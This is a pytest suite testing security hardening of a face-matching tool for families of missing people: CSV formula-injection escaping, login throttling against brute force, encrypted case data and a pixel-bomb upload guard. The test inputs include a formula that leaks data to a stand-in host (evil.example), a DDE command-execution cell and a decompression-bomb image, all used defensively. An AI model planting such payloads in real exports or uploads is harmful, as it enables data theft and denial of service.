"""Issue 22, the library's part: CSV exports that no spreadsheet runs as formulas, logins that cannot be raced
or used to lock someone out, every family fact and reviewer note encrypted and bound to its case, the passphrase
kept out of every process environment, and uploads that cannot exhaust the server's memory.

Real index (the demo archive with its records, sface), real SQLite files, real child processes; no mocks.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from facematch import csvcells, demo, report
from facematch.index import Index
from facematch.indexing import index_folder
from facematch.review import Review
from facematch.search import Searcher

PW = "correct horse battery"
FORMULA = '=HYPERLINK("https://evil.example/?leak","open me")'
FILE_FORMULA = '=HYPERLINK("evil.example","open me")'  # a file name has no slash


@pytest.fixture(scope="module")
def demo_index(tmp_path_factory) -> Path:
    """The demo archive with its records, plus a copy of one photo under a file name that is a formula (a leaked
    archive's file names are whatever the leaker chose)."""
    idx = tmp_path_factory.mktemp("hard") / "index"
    gallery = demo.build_gallery(idx / "photos")
    shutil.copyfile(gallery / "obama.jpg", gallery / f"{FILE_FORMULA}.jpg")
    index_folder(gallery, idx, "sface", workers=1, records_csv=demo.records_csv(), progress=False)
    return idx


def copy_of(idx: Path, dest: Path) -> Path:
    shutil.copytree(idx, dest, ignore=shutil.ignore_patterns("*-wal", "*-shm"))
    return dest


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO("\n".join(line for line in text.splitlines() if not line.startswith("# "))))
    return [c for r in rows for c in r if csvcells.cell(c) != c]


# -- 9: CSV formula injection ------------------------------------------------------------------------
def test_csv_cells_are_never_formulas():
    for payload in ("=1+2", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", FORMULA):
        assert csvcells.cell(payload) == "'" + payload
    for harmless in ("-0.1234", "+3", "12", "1e-5", "Qurban = brother", "", 3, -0.5, None):
        assert csvcells.cell(harmless) == harmless


def test_audit_and_cross_check_exports_write_no_formula(demo_index, tmp_path):
    from facematch.crosscheck import SAME, CrossCheck, export
    from facematch.crosscheck.run import link

    idx = copy_of(demo_index, tmp_path / "index")
    with Searcher(idx) as s:
        rv = Review(s.index)
        case = rv.create_case("=cmd|' /C calc'!A0", "@SUM(A1)", notes="-2+3")
        cands = s.search([s.detect_file(demo.query_photo()).pick()], k=11)
        target = next(c for c in cands if c.face.relpath.startswith("=HYPERLINK"))
        rv.decide(case.id, target, "confirm", "@SUM(A1)", note=FORMULA, shown=["+1+1", "-2-2"])
        rv.decide(case.id, cands[0], "reject", "Ayse", note="-0.5")  # a note that is a number stays as typed
        audit = report.audit_csv(rv, case.id)
    assert FORMULA.replace('"', '""') in audit  # the note is there, as text
    assert formula_cells(audit) == [], formula_cells(audit)
    assert "'@SUM(A1)" in audit and "'=HYPERLINK" in audit and ",-0.5," in audit

    link(idx, progress=False)
    with Index.open(idx) as index:
        cc = CrossCheck(index)
        pair = next(p for p in cc.pairs() + cc.duplicates() if "=HYPERLINK" in p.a.relpath + p.b.relpath)
        cc.decide(pair, SAME, "+reviewer", why=FORMULA)
        written = export(cc, tmp_path / "out")
    csvs = {name: path.read_text(encoding="utf-8") for name, path in written.items() if name.endswith(".csv")}
    assert FORMULA.replace('"', '""') in csvs["decisions.csv"]
    for name, text in csvs.items():
        assert formula_cells(text) == [], (name, formula_cells(text))


# -- 3 and 4: logins that cannot be raced, and cannot be used to lock someone out ---------------------
@pytest.fixture
def accounts_index(tmp_path) -> Path:
    from facematch.access import Accounts

    idx = tmp_path / "accounts"
    with Index.open(idx, create=True) as index:
        Accounts(index.db).add("admin", "admin", PW)
    return idx


def parallel_logins(idx: Path, passwords: list[str], address: str | None = None) -> list[str]:
    """Every password tried for `admin` at the same moment, one thread each (as browser sessions are): what each
    was answered ('in' for a login)."""
    import threading

    from facematch.access import Accounts, LoginRefused

    answers: list[str] = []
    with Index.open(idx) as index:
        accounts = Accounts(index.db)
        start = threading.Barrier(len(passwords))

        def attempt(password: str) -> None:
            start.wait()
            try:
                accounts.authenticate("admin", password, address=address)
                answers.append("in")
            except LoginRefused as e:
                answers.append(str(e))

        threads = [threading.Thread(target=attempt, args=(p,)) for p in passwords]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    return answers


def test_parallel_wrong_passwords_are_judged_at_most_the_limit(accounts_index):
    from facematch import access
    from facematch.access import Accounts

    wrong = [f"wrong guess number {i}" for i in range(12)]
    answers = parallel_logins(accounts_index, wrong)
    judged = answers.count("Wrong name or password.")
    assert judged == access.MAX_FAILURES, answers  # 12 before the fix, and the stored count was 1
    assert all(a.startswith("Too many failed logins") for a in answers if a != "Wrong name or password.")
    with Index.open(accounts_index) as index:  # what was judged is what is counted
        assert round(Accounts(index.db).throttle_of("admin")["failures"]) == access.MAX_FAILURES
        Accounts(index.db).enable("admin")
    # 11 wrong guesses and the right password at once, from one address: still at most the limit judged
    answers = parallel_logins(accounts_index, [*wrong[:11], PW], address="203.0.113.7")
    assert answers.count("Wrong name or password.") <= access.MAX_FAILURES, answers


def test_wrong_tries_slow_guessing_but_lock_no_one_out(accounts_index, capsys):
    from facematch import access
    from facematch.access import Accounts, LoginRefused, LoginThrottled
    from facematch.cli import main

    t = 1_900_000_000.0
    with Index.open(accounts_index) as index:
        accounts = Accounts(index.db)
        # someone who knows only the name tries five times, then once every 15 minutes (the old code locked the
        # name for good this way: five locked it for 15 minutes, and every failure after that locked it again);
        # the owner, a minute after each try, gets in every time
        for _ in range(access.MAX_FAILURES):
            with pytest.raises(LoginRefused, match="Wrong name or password"):
                accounts.authenticate("admin", "a wrong guess here", now=t - 10)
        for k in range(1, 9):
            with pytest.raises(LoginRefused, match="Wrong name or password"):
                accounts.authenticate("admin", "a wrong guess here", now=t + k * 901)
            assert accounts.authenticate("admin", PW, now=t + k * 901 + 60).name == "admin"
        # a burst from one address: at most the limit judged, then each try waits longer than the last
        t += 200_000
        judged, waits = 0, []
        for i in range(40):
            try:
                accounts.authenticate("admin", f"burst guess {i}", now=t + i * 0.01, address="198.51.100.9")
            except LoginThrottled as e:
                waits.append(e.wait)
            except LoginRefused:
                judged += 1
        assert judged == access.MAX_FAILURES and len(waits) == 40 - judged
        # the owner from another address gets in at once; from the burst's address after its wait
        assert accounts.authenticate("admin", PW, now=t + 0.5, address="192.0.2.44").name == "admin"
        with pytest.raises(LoginThrottled):
            accounts.authenticate("admin", PW, now=t + 1, address="198.51.100.9")
        assert accounts.authenticate("admin", PW, now=t + 0.5 + access.DELAY_BASE, address="198.51.100.9")
        # sustained guessing from one address, each try as soon as allowed: the waits double up to the cap
        guesses, clock, judged_at = 0, t + 100, 0.0
        while clock < t + 100 + 3 * 3600:
            try:
                accounts.authenticate("admin", "slow guess", now=clock, address="198.51.100.9")
            except LoginThrottled as e:
                clock += e.wait
                continue
            except LoginRefused:
                guesses, judged_at = guesses + 1, clock
        assert guesses < 35, guesses  # about one every ten minutes, once the waits have grown
        state = accounts.throttle_of("admin", now=judged_at)
        assert state["addresses"] == 1 and state["wait"] > 5 * 60, state
    assert main(["users", "list", "--index", str(accounts_index)]) == 0
    listed = capsys.readouterr().out
    assert "failed logins lately" in listed and "facematch users enable admin" in listed
    assert "198.51.100.9" not in (accounts_index / "facematch.sqlite").read_bytes().decode("latin-1")
    assert main(["users", "enable", "admin", "--index", str(accounts_index)]) == 0
    with Index.open(accounts_index) as index:
        assert Accounts(index.db).throttle_of("admin") is None
    assert "failed logins lately" not in (capsys.readouterr(), main(["users", "list", "--index", str(accounts_index)]),
                                 capsys.readouterr().out)[2]  # fmt: skip


def test_schema_7_carries_the_old_failure_counts_over(accounts_index):
    import sqlite3

    from facematch.access import Accounts, LoginThrottled

    con = sqlite3.connect(accounts_index / "facematch.sqlite")
    con.executescript(
        """DROP TABLE login_throttle;
           CREATE TABLE login_failures (name TEXT PRIMARY KEY COLLATE NOCASE, failures INTEGER NOT NULL,
                                        last_failure REAL NOT NULL, locked_until REAL NOT NULL DEFAULT 0);
           INSERT INTO login_failures VALUES ('Admin', 5, 1900000000.0, 1900000900.0);
           UPDATE meta SET value = '6' WHERE key = 'schema_version';"""
    )
    con.close()
    with Index.open(accounts_index) as index:
        assert index.db.get_meta("schema_version") == "7"
        assert index.db.one("SELECT COUNT(*) FROM sqlite_master WHERE name = 'login_failures'") == 0
        with pytest.raises(LoginThrottled):  # the old lock is a wait now, still on
            Accounts(index.db).authenticate("admin", PW, now=1_900_000_100.0)
        assert Accounts(index.db).authenticate("admin", PW, now=1_900_000_901.0).name == "admin"


# -- 5: everything a family told us or a reviewer wrote is encrypted, and bound to its case -------------
PASSPHRASE = "families' data passphrase for the hardening tests"
#: What the test family types, in several scripts; none of it is in the demo archive.
FAMILY_SECRETS = {
    "case name": "Search for Abdulhamit Ghopurjan",
    "case notes": "Taken from the Ghulja bazaar by plainclothes police",
    "Latin name": "Baraq Obamah",
    "Uyghur name": "باراق ئوباما",
    "Cyrillic name": "Бараак Обамаа",
    "Chinese name": "巴拉克·欧巴马",
    "county": "Yengisheher Nahiyisi",
    "kept file name": "grandmother-ayshem-2009",
    "decision note": "Same scar above the left eyebrow as Ayshem described",
}
BIRTH_YEAR = "1963"


def plaintext_in(folder: Path, secrets) -> dict[str, list[str]]:
    """Which secrets appear, as UTF-8 bytes, in the database file or its WAL (or any file name in the folder)."""
    found: dict[str, list[str]] = {}
    for f in sorted(folder.glob("facematch.sqlite*")):
        data = f.read_bytes()
        hits = [k for k, v in secrets.items() if v.encode() in data]
        if hits:
            found[f.name] = hits
    names = " ".join(p.name for p in folder.rglob("*"))
    if hits := [k for k, v in secrets.items() if v in names]:
        found["file names"] = hits
    return found


def team_app(idx: Path, monkeypatch, query: dict | None = None):
    from streamlit.testing.v1 import AppTest

    from facematch.app import serve

    monkeypatch.setenv("FACEMATCH_INDEX", str(idx))
    monkeypatch.setenv("FACEMATCH_TEAM", "1")
    monkeypatch.setenv(serve.PASSPHRASE_FD, str(serve.passphrase_pipe(PASSPHRASE)))  # as `facematch app` hands it
    at = AppTest.from_file(str(serve.APP), default_timeout=300)
    for k, v in (query or {}).items():
        at.query_params[k] = v
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_a_team_flow_leaves_no_family_fact_in_the_database_or_its_wal(demo_index, tmp_path, monkeypatch):
    from test_app_team import log_in

    from conftest import ok, save_facts, texts
    from facematch.access import Accounts

    idx = copy_of(demo_index, tmp_path / "index")
    baseline = plaintext_in(idx, {**FAMILY_SECRETS, "birth year": BIRTH_YEAR})
    assert baseline == {}, baseline  # the test's secrets are nowhere in the archive
    with Index.open(idx) as index:
        Accounts(index.db).add("boss", "admin", PW)
        Accounts(index.db).add("amina", "family", PW)
    at = team_app(idx, monkeypatch)
    log_in(at, "amina", PW)  # what the front door does at its login form (test_app_team.log_in)
    ok(at)
    at.sidebar.text_input(key="new_case_name").input(FAMILY_SECRETS["case name"])
    next(b for b in at.sidebar.button if b.label == "Create case").click()
    at.run()
    ok(at)
    case_id = at.session_state["case_select"]
    names = "\n".join(FAMILY_SECRETS[k] for k in ("Latin name", "Uyghur name", "Cyrillic name", "Chinese name"))
    save_facts(at, case_id, names=names, born=BIRTH_YEAR, county=FAMILY_SECRETS["county"],
               notes=FAMILY_SECRETS["case notes"])  # fmt: skip
    at.checkbox(key=f"keep_{case_id}").check()
    kept_name = FAMILY_SECRETS["kept file name"] + ".jpg"
    at.file_uploader[0].set_value([(kept_name, demo.query_photo().read_bytes(), "image/jpeg")])
    at.run()
    ok(at)
    # A family does not vote in a two-reviewer case (issue 24): an admin opens it (the kept photo is searched
    # again) and decides, with a note that names what the family said.
    at = team_app(idx, monkeypatch, {"case": str(case_id)})
    log_in(at, "boss", PW)
    card = next(b for b in at.button if (b.key or "").startswith("cmp_"))
    card.click()
    at.run()
    at.radio(key="decision").set_value("confirm")
    at.text_input(key="decision_note").input(FAMILY_SECRETS["decision note"])
    next(b for b in at.button if b.label == "Record decision").click()
    at.run()
    ok(at)
    assert "Confirmed by boss" in texts(at)
    # the files as the running server left them: its connections are open, so the WAL holds the flow's writes
    wal = idx / "facematch.sqlite-wal"
    assert wal.is_file() and wal.stat().st_size > 10 * 4096, "no WAL to search"
    secrets = {**FAMILY_SECRETS, "birth year": BIRTH_YEAR}  # as typed, and in the reasons shown
    assert plaintext_in(idx, secrets) == {}
    with Index.open(idx) as index:  # the decision kept what the screen showed: the family's facts are in it
        index.unlock(PASSPHRASE)
        (d,) = Review(index).log(case_id)
        shown = "\n".join(d.shown)
        assert d.note == FAMILY_SECRETS["decision note"]
        assert "the family's" in shown and BIRTH_YEAR in shown, shown
        assert [k.original_name for k in Review(index).case_photos(case_id)] == [kept_name]
    secrets |= {f"shown line {i}": line for i, line in enumerate(d.shown) if "family" in line}
    assert plaintext_in(idx, secrets) == {}, shown


def single_user_case(idx: Path) -> tuple[int, str]:
    """A case written in single-user mode (nothing encrypted): facts, a kept photo, a decision with a note and
    the lines the screen showed. Returns its id and the kept photo's sha256."""
    with Searcher(idx) as s:
        rv = Review(s.index)
        case = rv.create_case(FAMILY_SECRETS["case name"], "Ayse", FAMILY_SECRETS["case notes"])
        rv.set_facts(case.id, names=[FAMILY_SECRETS["Uyghur name"], FAMILY_SECRETS["Chinese name"]],
                     birth_year=BIRTH_YEAR, birth_year_margin=2, county=FAMILY_SECRETS["county"])  # fmt: skip
        kept = rv.keep_photo(case.id, demo.query_photo().read_bytes(), FAMILY_SECRETS["kept file name"] + ".jpg")
        cand = s.search([s.detect_file(demo.query_photo()).pick()], k=3)[0]
        rv.decide(case.id, cand, "confirm", "Ayse", note=FAMILY_SECRETS["decision note"],
                  shown=[f"record county Honolulu, the family's {FAMILY_SECRETS['county']}"])  # fmt: skip
    return case.id, kept.sha256


def assert_case_intact(idx: Path, case_id: int, sha: str) -> None:
    """Everything of single_user_case reads back, in team mode, and none of it is on disk in the clear."""
    from facematch.vault import BOUND, FILE_MAGIC, TEXT_PREFIX

    with Index.open(idx) as index:
        index.unlock(PASSPHRASE)
        rv = Review(index)
        case = rv.case(case_id)
        assert (case.name, case.notes) == (FAMILY_SECRETS["case name"], FAMILY_SECRETS["case notes"])
        facts = rv.facts(case_id)
        assert list(facts.names) == [FAMILY_SECRETS["Uyghur name"], FAMILY_SECRETS["Chinese name"]]
        assert (facts.birth_year, facts.county) == (int(BIRTH_YEAR), FAMILY_SECRETS["county"])
        (kept,) = rv.case_photos(case_id)
        assert kept.original_name == FAMILY_SECRETS["kept file name"] + ".jpg" and kept.sha256 == sha
        assert rv.photo_bytes(case_id, sha).startswith(b"\xff\xd8")
        (d,) = rv.log(case_id)
        assert d.note == FAMILY_SECRETS["decision note"] and FAMILY_SECRETS["county"] in d.shown[0]
        assert json_of(index.db.get_meta("vault"))["bound"] == BOUND
        values = index.db.execute("SELECT name, notes FROM cases UNION ALL SELECT note, shown FROM decisions")
        assert all(v.startswith(TEXT_PREFIX) for row in values for v in row)
    assert plaintext_in(idx, FAMILY_SECRETS) == {}
    files = [f for f in (idx / "cases").rglob("*") if f.is_file()]
    assert files and all(f.read_bytes().startswith(FILE_MAGIC) for f in files), files


def json_of(text: str) -> dict:
    import json

    return json.loads(text)


def test_values_are_bound_to_their_case_and_row(demo_index, tmp_path):
    import sqlite3

    from facematch.vault import VaultError, photo_place

    idx = copy_of(demo_index, tmp_path / "index")
    first, _sha = single_user_case(idx)
    with Index.open(idx) as index:
        index.unlock(PASSPHRASE)
        rv = Review(index)
        other = rv.create_case("Another family's case", notes="nothing to see")
        rv.set_facts(other.id, names=["Someone Else"], birth_year="1950", birth_year_margin=2, county="Elsewhere")
    con = sqlite3.connect(idx / "facematch.sqlite")
    for sql in (  # someone who can write the file copies the first case's sealed values into the other case
        "UPDATE case_facts SET names = (SELECT names FROM case_facts WHERE case_id = :a) WHERE case_id = :b",
        "UPDATE cases SET notes = (SELECT notes FROM cases WHERE id = :a) WHERE id = :b",
        "UPDATE cases SET name = (SELECT notes FROM cases WHERE id = :b) WHERE id = :b",  # another column
    ):
        con.execute(sql, {"a": first, "b": other.id})
    con.execute(  # a decision row copied into the other case, with its sealed note
        """INSERT INTO decisions(id, case_id, photo_sha256, x1, y1, x2, y2, decision, reviewer, decided_at, engine,
                                 score, rank, note, photo_path, shown)
           SELECT 1000, :b, photo_sha256, x1, y1, x2, y2, decision, reviewer, decided_at, engine, score, rank, note,
                  photo_path, shown FROM decisions WHERE case_id = :a""",
        {"a": first, "b": other.id},
    )
    con.execute(  # and the kept photo's row, pointing at the first case's sealed file
        """INSERT INTO case_photos(case_id, path, sha256, original_name, added_at)
           SELECT :b, path, sha256, original_name, added_at FROM case_photos WHERE case_id = :a""",
        {"a": first, "b": other.id},
    )
    con.commit()
    con.close()
    with Index.open(idx) as index:
        index.unlock(PASSPHRASE)
        rv = Review(index)
        for read in (
            lambda: rv.facts(other.id),
            lambda: rv.case(other.id),
            lambda: rv.log(other.id),
            lambda: rv.case_photos(other.id),
        ):
            with pytest.raises(VaultError, match="does not open here"):
                read()
        kept = rv.case_photos(first)[0]
        with pytest.raises(VaultError, match="does not open here"):  # the file itself is bound to its case too
            index.cases.vault.open_bytes(kept.path.read_bytes(), photo_place(other.id, kept.sha256))
        assert rv.case(first).name == FAMILY_SECRETS["case name"]  # the first case is untouched


def test_writing_to_an_encrypted_index_without_the_key_is_refused(demo_index, tmp_path):
    from facematch.vault import VaultError

    idx = copy_of(demo_index, tmp_path / "index")
    case_id, _sha = single_user_case(idx)
    with Index.open(idx) as index:
        index.unlock(PASSPHRASE)
    before = sorted(p.name for p in (idx / "cases").rglob("*"))
    with Index.open(idx) as index:  # single-user mode, no passphrase
        rv = Review(index)
        with pytest.raises(VaultError, match="encrypted"):
            rv.create_case("Written in the clear?")
        with pytest.raises(VaultError, match="encrypted"):
            rv.keep_photo(case_id, demo.query_photo().read_bytes(), "plain.jpg")
        assert index.db.one("SELECT COUNT(*) FROM cases") == 1
    assert sorted(p.name for p in (idx / "cases").rglob("*")) == before  # no plain copy written


def legacy_seal(idx: Path) -> None:
    """Seal an index the way facematch did before values were bound to their case and row: the vault record
    without "bound", `enc1:` values bound only to a field name, files bound only to their content, decisions'
    notes and lines left in the clear."""
    import base64
    import json
    import os
    import sqlite3

    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    from facematch.vault import FILE_MAGIC, KDF, Vault

    salt = os.urandom(16)
    key = Vault.derive(PASSPHRASE, salt, KDF)
    aead, names = AESGCM(key), Vault(key)

    def enc1(text: str, field: str) -> str:
        nonce = os.urandom(12)
        return "enc1:" + base64.b64encode(nonce + aead.encrypt(nonce, text.encode(), field.encode())).decode()

    con = sqlite3.connect(idx / "facematch.sqlite")
    for case_id, name, notes in con.execute("SELECT id, name, notes FROM cases").fetchall():
        con.execute("UPDATE cases SET name = ?, notes = ? WHERE id = ?",
                    (enc1(name, "case.name"), enc1(notes, "case.notes"), case_id))  # fmt: skip
    for case_id, names_json, year, county in con.execute(
        "SELECT case_id, names, birth_year, county FROM case_facts"
    ).fetchall():
        con.execute(
            "UPDATE case_facts SET names = ?, birth_year = ?, county = ? WHERE case_id = ?",
            (enc1(names_json, "facts.names"), enc1(str(year), "facts.birth_year"), enc1(county, "facts.county"),
             case_id),
        )  # fmt: skip
    for case_id, path, sha, name in con.execute(
        "SELECT case_id, path, sha256, original_name FROM case_photos"
    ).fetchall():
        old = idx / path
        nonce = os.urandom(12)
        new = old.with_name(names.file_name(sha))
        new.write_bytes(FILE_MAGIC + nonce + aead.encrypt(nonce, old.read_bytes(), f"photo:{sha}".encode()))
        old.unlink()
        con.execute(
            "UPDATE case_photos SET path = ?, original_name = ? WHERE case_id = ? AND sha256 = ?",
            (new.relative_to(idx).as_posix(), enc1(name, "photo.name"), case_id, sha),
        )
    record = {"kdf": "argon2id", "params": KDF, "salt": base64.b64encode(salt).decode()}
    record["verifier"] = enc1("facematch vault v1: the passphrase is right", "verifier")
    con.execute("INSERT INTO meta(key, value) VALUES ('vault', ?)", (json.dumps(record),))
    con.commit()
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()


def test_values_sealed_before_binding_are_sealed_again_without_loss(demo_index, tmp_path):
    idx = copy_of(demo_index, tmp_path / "index")
    case_id, sha = single_user_case(idx)
    legacy_seal(idx)
    with Index.open(idx) as index:  # the earlier form: decisions in the clear, values bound only to a field
        assert index.encrypted and FAMILY_SECRETS["decision note"] in index.db.one("SELECT note FROM decisions")
    assert_case_intact(idx, case_id, sha)
    with Index.open(idx) as index:  # and once bound, an `enc1:` value put back is refused, not re-sealed
        import sqlite3

        from facematch.vault import VaultError

        index.unlock(PASSPHRASE)
        con = sqlite3.connect(idx / "facematch.sqlite")
        con.execute("UPDATE cases SET notes = 'enc1:AAAA' WHERE id = ?", (case_id,))
        con.commit()
        con.close()
        index.unlock(PASSPHRASE)
        with pytest.raises(VaultError, match="not sealed as it should be"):
            Review(index).case(case_id)


KILLED_SEALING = r"""
import os, pathlib, signal, sys
from facematch.index import Index

index = Index.open(sys.argv[1])
where = sys.argv[3]
if where == "inside the transaction":  # as the first plaintext value is being sealed
    def trace(sql):
        if sql.lstrip().upper().startswith("UPDATE CASES SET"):
            os.kill(os.getpid(), signal.SIGKILL)
    index.db._writer.set_trace_callback(trace)
else:  # after the sealing committed, as the first plaintext file is being removed
    def unlink(self, missing_ok=False):
        os.kill(os.getpid(), signal.SIGKILL)
    pathlib.Path.unlink = unlink
index.unlock(sys.argv[2])
print("not killed")
"""


@pytest.mark.parametrize("where", ["inside the transaction", "after the commit"])
def test_a_first_sealing_killed_at_any_moment_is_finished_by_the_next_start(demo_index, tmp_path, where):
    import signal
    import subprocess
    import sys

    idx = copy_of(demo_index, tmp_path / "index")
    case_id, sha = single_user_case(idx)
    env = {**__import__("os").environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src")}
    killed = subprocess.run([sys.executable, "-c", KILLED_SEALING, str(idx), PASSPHRASE, where], env=env,
                            capture_output=True, text=True, timeout=600)  # fmt: skip
    assert killed.returncode == -signal.SIGKILL, killed.stdout + killed.stderr
    if where == "after the commit":  # the key and the sealed values are in; the plain photo file is still there
        plain = [f for f in (idx / "cases").rglob("*.jpg")]
        assert plain and plain[0].read_bytes().startswith(b"\xff\xd8")
    assert_case_intact(idx, case_id, sha)  # reopening with the passphrase finished the sealing


def test_the_passphrase_is_in_no_environment_of_a_running_team_server(demo_index, tmp_path):
    """`facematch app --team` reads the passphrase from a descriptor (here stdin) and hands it to the Streamlit
    child through an inherited pipe: neither process has it in /proc/<pid>/environ or on its command line."""
    import os
    import socket
    import subprocess
    import sys
    import time

    from facematch.access import Accounts
    from facematch.app import serve

    idx = copy_of(demo_index, tmp_path / "index")
    with Index.open(idx) as index:
        Accounts(index.db).add("boss", "admin", PW)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if k != "FACEMATCH_PASSPHRASE"}
    env.update(PYTHONPATH=str(Path(__file__).parents[1] / "src"), PYTHONUNBUFFERED="1")
    args = [sys.executable, "-m", "facematch.cli", "app", "--team", "--index", str(idx), "--port", str(port)]
    cli = subprocess.Popen([*args, "--passphrase-fd", "0"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, env=env)  # fmt: skip
    try:
        cli.stdin.write(PASSPHRASE.encode())
        cli.stdin.close()
        assert serve.wait_until_up(port, timeout=300, proc=cli), cli.stdout.read().decode(errors="replace")
        children: list[int] = []
        deadline = time.monotonic() + 30
        while not children and time.monotonic() < deadline:
            for task in Path(f"/proc/{cli.pid}/task").iterdir():
                children += [int(p) for p in (task / "children").read_text().split()]
        assert children, "the Streamlit child was not found"
        secret = PASSPHRASE.encode()
        for pid in (cli.pid, *children):
            for what in ("environ", "cmdline"):
                assert secret not in Path(f"/proc/{pid}/{what}").read_bytes(), (pid, what)
        (child,) = children
        child_env = dict(
            line.split(b"=", 1) for line in Path(f"/proc/{child}/environ").read_bytes().split(b"\0") if b"=" in line
        )
        fd = child_env[serve.PASSPHRASE_FD.encode()].decode()  # what it has instead: the number of its pipe
        assert os.readlink(f"/proc/{child}/fd/{fd}").startswith("pipe:")
        assert b"now encrypted" in cli.stdout.read1()  # the passphrase was read and the data sealed with it
    finally:
        cli.terminate()
        cli.wait(timeout=60)


# -- 8: uploads that cannot exhaust the server's memory ----------------------------------------------
MEMORY_CHILD = r"""
import io, json, resource, sys
from pathlib import Path
from PIL import Image
from facematch import demo
from facematch.review import Review
from facematch.search import Searcher

def vm(what="VmSize"):
    return next(int(l.split()[1]) * 1024 for l in open("/proc/self/status") if l.startswith(what))

s = Searcher(Path(sys.argv[1]))
s.detect(demo.query_photo().read_bytes(), "warm.jpg")
big = Image.open(demo.query_photo()).convert("RGB").resize((2000, 2000))  # the detector at its largest input
buf = io.BytesIO()
big.save(buf, "JPEG")
before = vm()
s.detect(buf.getvalue(), "warm.jpg")
detector = vm("VmPeak") - before  # what finding faces in the largest image takes, old code and new alike
# from here on this process may take what the detector needs and the given margin beside it, no more
cap = vm() + detector + int(sys.argv[2]) * 2**20
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
out = {"detector MB": detector // 2**20}
for path in sys.argv[3:]:
    data = Path(path).read_bytes()
    try:
        q = s.detect(data, Path(path).name)
        out[Path(path).name] = {"error": q.error, "decoded": q.rgb.shape[:2] if q.error is None else None}
        out[Path(path).name + " faces"] = len(q.faces)
    except BaseException as e:  # what the app would have shown as a traceback
        out[Path(path).name] = {"raised": type(e).__name__}
rv = Review(s.index)
case = rv.create_case("memory")
try:
    kept = rv.keep_photo(case.id, Path(sys.argv[-1]).read_bytes(), "kept.jpg")
    out["kept"] = {"size": list(Image.open(io.BytesIO(rv.photo_bytes(case.id, kept.sha256))).size)}
except BaseException as e:
    out["kept"] = {"raised": type(e).__name__}
print(json.dumps(out))
"""


def test_a_pixel_bomb_upload_is_refused_with_a_message_within_a_memory_limit(demo_index, tmp_path):
    """Uploads as the app hands them to the library (Searcher.detect, Review.keep_photo), in a child whose address
    space may grow by what face detection on the largest image takes plus 150 MB: a 0.3 MB PNG of 99.8 megapixels
    (under the archive's limit; decoded at full size before, about 850 MB, and a MemoryError here) is refused
    from its header with a message; the largest PNG and JPEG an upload may be are decoded and searched within the
    limit (the JPEG already reduced), and the JPEG is kept at KEEP_SIDE."""
    import json
    import subprocess
    import sys

    from PIL import Image

    from facematch import images

    idx = copy_of(demo_index, tmp_path / "index")
    files = []
    Image.new("RGB", (9990, 9990), (120, 130, 140)).save(tmp_path / "bomb.png")  # 99.8 MP: under MAX_PIXELS
    for name, mode, size in (
        ("largest.png", "RGBA", (4990, 4990)),  # just under MAX_UPLOAD_DECODED
        ("largest.jpg", "RGB", (8650, 5770)),  # just under MAX_UPLOAD_PIXELS
    ):  # a real photo made as large as an upload may be
        Image.open(demo.query_photo()).convert(mode).resize(size).save(tmp_path / name, compress_level=1)
    files = [str(tmp_path / name) for name in ("bomb.png", "largest.png", "largest.jpg")]
    assert images.MAX_PIXELS > 9990 * 9990 and (tmp_path / "bomb.png").stat().st_size < 400_000
    env = {**__import__("os").environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src")}
    run = subprocess.run([sys.executable, "-c", MEMORY_CHILD, str(idx), "150", *files], env=env,
                         capture_output=True, text=True, timeout=900)  # fmt: skip
    assert run.returncode == 0, run.stderr[-3000:]
    out = json.loads(run.stdout.strip().splitlines()[-1])
    assert "too large to use here" in (out["bomb.png"].get("error") or ""), out
    assert "Traceback" not in out["bomb.png"]["error"]
    assert out["largest.png"] == {"error": None, "decoded": [2000, 2000]}, out  # a face found in each
    assert out["largest.png faces"] >= 1 and out["largest.jpg faces"] >= 1, out
    assert out["largest.jpg"]["error"] is None and max(out["largest.jpg"]["decoded"]) == images.MAX_SIDE, out
    assert max(out["kept"]["size"]) == images.KEEP_SIDE, out


def test_the_app_without_the_passphrase_on_an_encrypted_index_says_so(demo_index, tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from facematch.app import serve

    idx = copy_of(demo_index, tmp_path / "index")
    single_user_case(idx)
    with Index.open(idx) as index:
        index.unlock(PASSPHRASE)
    monkeypatch.setenv("FACEMATCH_INDEX", str(idx))  # single-user mode: no passphrase
    at = AppTest.from_file(str(serve.APP), default_timeout=300)
    at.run()
    assert not at.exception, [e.value for e in at.exception]  # before: Streamlit's redacted error
    assert any("is encrypted" in e.value for e in at.error)
    assert FAMILY_SECRETS["case name"] not in "".join(m.value for m in at.markdown)
